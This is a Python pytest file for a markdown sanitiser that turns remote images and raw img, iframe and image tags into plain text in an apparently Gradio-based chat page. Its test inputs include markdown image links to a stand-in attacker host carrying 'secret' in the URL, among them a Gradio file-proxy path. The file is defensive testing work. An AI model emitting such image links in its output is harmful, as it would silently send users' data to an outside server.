"""Markdown on the page fetches nothing."""

from __future__ import annotations

import pytest

from app.markdown import without_pictures


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![cat](https://evil.example/?q=secret)", "*[picture: cat]*"),
        ("a ![](http://x/y.png) b", "a *[picture: no words]* b"),
        (
            "![cat][ref]\n\n[ref]: https://evil.example",
            "*[picture: cat]*\n\n[ref]: https://evil.example",
        ),
        (
            "![ref]\n\n[ref]: https://evil.example",
            "*[picture: ref]*\n\n[ref]: https://evil.example",
        ),
        ('<img src="https://evil.example">', '&lt;img src="https://evil.example">'),
        ("< IFRAME src=x>", "&lt; IFRAME src=x>"),
        ("<image src=x>", "&lt;image src=x>"),
        ("![a\nb](/gradio_api/file=https://evil.example/secret)", "*[picture: a\nb]*"),
        ("![x](\n/gradio_api/file=https://evil.example)", "*[picture: x]*"),
        ("\\`![x](https://evil.example)\\`", "\\`*[picture: x]*\\`"),
    ],
)
def test_remote_pictures_become_their_words(text: str, shown: str) -> None:
    assert without_pictures(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "A [link](https://example.org) and **bold** text, 1 < 2!",
        "`![x](y)` stays code",
        "```\n![x](y)\n<img src=x>\n```\nafter",
        "```html\n<img src=x> while it still streams",
    ],
)
def test_everything_else_stays_as_it_is(text: str) -> None:
    assert without_pictures(text) == text
